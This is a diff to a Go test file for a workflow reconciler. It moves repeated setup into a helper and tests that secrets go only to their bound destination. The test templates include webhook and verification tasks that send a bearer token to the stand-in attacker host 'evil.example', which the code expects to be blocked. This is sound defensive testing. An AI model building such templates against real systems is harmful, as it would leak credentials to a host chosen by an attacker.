@@ -8,10 +8,12 @@ import (
 
 	"github.com/stretchr/testify/require"
 
+	"github.com/reconcilerhq/reconciler/engine"
 	"github.com/reconcilerhq/reconciler/engine/flow"
 	"github.com/reconcilerhq/reconciler/internal/configmap"
 	"github.com/reconcilerhq/reconciler/internal/secretdest"
 	"github.com/reconcilerhq/reconciler/ports"
+	"github.com/reconcilerhq/reconciler/ports/porttest"
 	"github.com/reconcilerhq/reconciler/reconcile/release"
 	"github.com/reconcilerhq/reconciler/workflow"
 )
@@ -29,24 +31,13 @@ func (h *hookLog) Send(_ context.Context, r ports.WebhookRequest) (ports.Webhook
 	return ports.WebhookResponse{Status: 200}, nil
 }
 
-// TestWorkflowSecretsGoOnlyToTheirBoundDestination: a write token starts a
-// workflow whose sensitive variable names a daemon secret; its webhook
-// task to the bound host gets the value, the one to a host of the
-// token's choosing fails naming the reference, the destination and the
-// flag, and sends nothing (issue 28, finding 1, through workflows).
-func TestWorkflowSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
-	t.Parallel()
+// runWithSecret starts workflow w of template tmpl with the sensitive
+// variable TOKEN (env:RECONCILER_SECRET_HOOK), runs it to its end and
+// returns its status.
+func runWithSecret(t *testing.T, c *flow.Controller, eng *engine.Engine, clock *porttest.FakeClock, tmpl string) flow.Status {
+	t.Helper()
 	ctx := t.Context()
-	c, eng, clock := setupController(t, stores["memory"])
-	hooks := &hookLog{sent: map[string]ports.WebhookRequest{}}
-	policy, err := secretdest.Parse("env:RECONCILER_SECRET_HOOK=https://hooks.example")
-	require.NoError(t, err)
-	c.Webhooks = hooks
-	c.Secrets = secretdest.Resolver{Next: configmap.Secrets{"env:RECONCILER_SECRET_HOOK": "s3cret"}, Policy: policy}
-	tmpl := `{"apiVersion":"reconciler.dev/v1","kind":"WorkflowTemplate","metadata":{"name":"t"},"spec":{"tasks":[
-		{"name":"bound","type":"webhook","webhook":{"url":"https://hooks.example/deploy","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}},
-		{"name":"evil","type":"webhook","webhook":{"url":"https://evil.example/x","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}}]}}`
-	_, err = c.Start(ctx, flow.StartParams{ID: "w", Template: []byte(tmpl),
+	_, err := c.Start(ctx, flow.StartParams{ID: "w", Template: []byte(tmpl),
 		Variables: map[string]release.Value{"TOKEN": {Sensitive: &release.SecretRef{Ref: "env:RECONCILER_SECRET_HOOK"}}}})
 	require.NoError(t, err)
 	for range 10 {
@@ -56,6 +47,26 @@ func TestWorkflowSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
 	}
 	st, err := c.Status(ctx, "w")
 	require.NoError(t, err)
+	return st
+}
+
+// TestWorkflowSecretsGoOnlyToTheirBoundDestination: a write token starts a
+// workflow whose sensitive variable names a daemon secret; its webhook
+// task to the bound host gets the value, the one to a host of the
+// token's choosing fails naming the reference, the destination and the
+// flag, and sends nothing (issue 28, finding 1, through workflows).
+func TestWorkflowSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
+	t.Parallel()
+	c, eng, clock := setupController(t, stores["memory"])
+	hooks := &hookLog{sent: map[string]ports.WebhookRequest{}}
+	policy, err := secretdest.Parse("env:RECONCILER_SECRET_HOOK=https://hooks.example")
+	require.NoError(t, err)
+	c.Webhooks = hooks
+	c.Secrets = secretdest.Resolver{Next: configmap.Secrets{"env:RECONCILER_SECRET_HOOK": "s3cret"}, Policy: policy}
+	tmpl := `{"apiVersion":"reconciler.dev/v1","kind":"WorkflowTemplate","metadata":{"name":"t"},"spec":{"tasks":[
+		{"name":"bound","type":"webhook","webhook":{"url":"https://hooks.example/deploy","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}},
+		{"name":"evil","type":"webhook","webhook":{"url":"https://evil.example/x","headers":{"Authorization":"Bearer {{variables.TOKEN}}"}}}]}}`
+	st := runWithSecret(t, c, eng, clock, tmpl)
 	hooks.mu.Lock()
 	defer hooks.mu.Unlock()
 	require.Equal(t, "Bearer s3cret", hooks.sent["https://hooks.example/deploy"].Headers["Authorization"])
@@ -96,7 +107,6 @@ func (p *probeLog) Measure(_ context.Context, r ports.MeasureRequest) (any, erro
 // when bound there; the other metric's task fails naming the flag.
 func TestWorkflowVerificationSecretsGoOnlyToTheirBoundDestination(t *testing.T) {
 	t.Parallel()
-	ctx := t.Context()
 	c, eng, clock := setupController(t, stores["memory"])
 	probes := &probeLog{headers: map[string]any{}}
 	policy, err := secretdest.Parse("env:RECONCILER_SECRET_HOOK=https://status.example")
@@ -110,16 +120,7 @@ func TestWorkflowVerificationSecretsGoOnlyToTheirBoundDestination(t *testing.T) 
 	tmpl := `{"apiVersion":"reconciler.dev/v1","kind":"WorkflowTemplate","metadata":{"name":"t"},"spec":{"tasks":[
 		{"name":"bound","type":"verification","verification":{"metrics":[` + metric("https://status.example/health") + `]}},
 		{"name":"evil","type":"verification","verification":{"metrics":[` + metric("https://evil.example/x") + `]}}]}}`
-	_, err = c.Start(ctx, flow.StartParams{ID: "w", Template: []byte(tmpl),
-		Variables: map[string]release.Value{"TOKEN": {Sensitive: &release.SecretRef{Ref: "env:RECONCILER_SECRET_HOOK"}}}})
-	require.NoError(t, err)
-	for range 10 {
-		_, err = eng.Drain(ctx)
-		require.NoError(t, err)
-		clock.Advance(time.Minute)
-	}
-	st, err := c.Status(ctx, "w")
-	require.NoError(t, err)
+	st := runWithSecret(t, c, eng, clock, tmpl)
 	probes.mu.Lock()
 	defer probes.mu.Unlock()
 	require.Equal(t, map[string]any{"Authorization": "Bearer s3cret"}, probes.headers["https://status.example/health"])
